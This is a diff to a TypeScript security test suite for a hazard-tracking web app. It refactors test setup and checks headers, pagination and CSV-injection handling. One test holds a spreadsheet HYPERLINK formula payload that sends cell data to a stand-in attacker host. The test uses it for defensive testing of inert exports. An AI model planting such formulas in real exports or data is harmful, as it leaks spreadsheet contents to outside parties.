@@ -1,22 +1,11 @@
 import ExcelJS from 'exceljs';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { POSTGRES_URL, reachable, startSystem, type RunningSystem } from '../support/system.js';
-
-const pgUp = await reachable(POSTGRES_URL);
+import { expect, it } from 'vitest';
+import { describeOnPostgres } from '../support/postgres-suite.js';
 
 /** What a logged-in user (or anyone) can send at the HTTP edge: headers, odd paths, deep JSON, formula text. */
-describe.skipIf(!pgUp)('hostile HTTP input', () => {
-  let sys: RunningSystem;
-  let admin: string;
-
-  beforeAll(async () => {
-    sys = await startSystem({ postgresUrl: POSTGRES_URL });
-    admin = await sys.login();
-  });
-  afterAll(() => sys?.stop());
-
+describeOnPostgres('hostile HTTP input', (suite) => {
   const raw = (path: string, init: RequestInit = {}) =>
-    fetch(sys.url + path, { ...init, headers: { authorization: `Bearer ${admin}`, ...init.headers } });
+    fetch(suite.sys.url + path, { ...init, headers: { authorization: `Bearer ${suite.admin}`, ...init.headers } });
 
   it('sends security headers and no X-Powered-By, on the API and the dashboard', async () => {
     for (const path of ['/api/health', '/']) {
@@ -64,9 +53,9 @@ describe.skipIf(!pgUp)('hostile HTTP input', () => {
   });
 
   it('exports formula-like text as inert text (CSV injection)', async () => {
-    const [reservoir] = (await sys.get<{ code: string }[]>('/api/reservoirs', admin)).body;
+    const [reservoir] = (await suite.sys.get<{ code: string }[]>('/api/reservoirs', suite.admin)).body;
     const evil = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';
-    const created = await sys.post('/api/hazards', admin, {
+    const created = await suite.sys.post('/api/hazards', suite.admin, {
       reservoirCode: reservoir.code,
       foundOn: '2026-01-05',
       foundBy: '@巡查员',
@@ -85,13 +74,13 @@ describe.skipIf(!pgUp)('hostile HTTP input', () => {
   });
 
   it('pages the hazard list: at most 1000 rows a request', async () => {
-    const all = await sys.get<{ id: number }[]>('/api/hazards', admin);
+    const all = await suite.sys.get<{ id: number }[]>('/api/hazards', suite.admin);
     expect(all.status).toBe(200);
-    const first = await sys.get<{ id: number }[]>('/api/hazards?limit=1', admin);
+    const first = await suite.sys.get<{ id: number }[]>('/api/hazards?limit=1', suite.admin);
     expect(first.body).toHaveLength(1);
-    const second = await sys.get<{ id: number }[]>('/api/hazards?limit=1&offset=1', admin);
+    const second = await suite.sys.get<{ id: number }[]>('/api/hazards?limit=1&offset=1', suite.admin);
     expect(second.body.map((h) => h.id)).toEqual(all.body.slice(1, 2).map((h) => h.id));
-    expect((await sys.get('/api/hazards?limit=5000', admin)).status).toBe(400);
+    expect((await suite.sys.get('/api/hazards?limit=5000', suite.admin)).status).toBe(400);
   });
 
   const upload = (kind: string, file: Buffer, name: string) => {
